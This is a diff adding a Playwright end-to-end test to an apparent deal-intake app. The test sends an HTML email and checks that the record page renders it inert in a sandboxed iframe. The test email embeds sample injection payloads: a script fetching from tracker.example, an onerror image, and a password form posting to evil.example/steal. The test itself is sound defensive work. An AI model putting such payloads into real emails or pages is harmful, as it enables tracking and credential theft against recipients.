@@ -95,3 +95,52 @@ test("a member opens a record, sees the deck's slides, clicks a field and lands 
   await expect(otherPage.getByText('Record not found')).toBeVisible();
   await other.close();
 });
+
+test("the founder's HTML email shows inert on the record page: no script runs, no remote image or form reaches the network", async ({
+  page,
+}) => {
+  test.setTimeout(180_000);
+  await startTrialOrganization(page, 'Tau Capital', 'Tara Records');
+  const inbox = await findInbox(page.request);
+  const pdf = await createDeckPdf([
+    ['Osprey Labs', 'Drone inspections'],
+    ['The Ask', 'Raising a $2M Seed round'],
+  ]);
+  const html = [
+    '<p>Hello investors, meet Osprey Labs.</p>',
+    '<script>document.title = "pwned"; fetch("https://tracker.example/script")</script>',
+    '<img src="https://tracker.example/pixel.gif" alt="pixel" onerror="document.title=\'pwned\'">',
+    '<form action="https://evil.example/steal" method="post"><input name="password"><button>Send</button></form>',
+  ].join('');
+  const raw = createRawEmail({
+    from: 'Oli Founder <oli@ospreylabs.io>',
+    to: inbox.inboundAddress,
+    subject: 'Osprey Labs deck',
+    text: html,
+    pdf,
+  }).replace('Content-Type: text/plain; charset=utf-8', 'Content-Type: text/html; charset=utf-8');
+  const emailId = await postRawMail(page.request, inbox, raw);
+  await expect
+    .poll(
+      async () =>
+        ((await (await page.request.get(`/api/emails/${emailId}`)).json()) as { status: string }).status,
+      {
+        timeout: 90_000,
+      },
+    )
+    .toBe('completed');
+
+  const outside: string[] = [];
+  page.on('request', (r) => {
+    if (/tracker\.example|evil\.example/.test(r.url())) outside.push(r.url());
+  });
+  await page.goto(`/records/${emailId}`);
+  await page.getByRole('tab', { name: 'HTML' }).click();
+  const frame = page.frameLocator('iframe[title="The email as HTML"]');
+  await expect(frame.getByText('Hello investors, meet Osprey Labs.')).toBeVisible();
+  await expect(frame.locator('script, form, input, button, img[src^="http"]')).toHaveCount(0);
+  await expect(page.locator('iframe[title="The email as HTML"]')).toHaveAttribute('sandbox', '');
+  await page.waitForTimeout(500);
+  expect(await page.title()).not.toContain('pwned');
+  expect(outside).toEqual([]);
+});
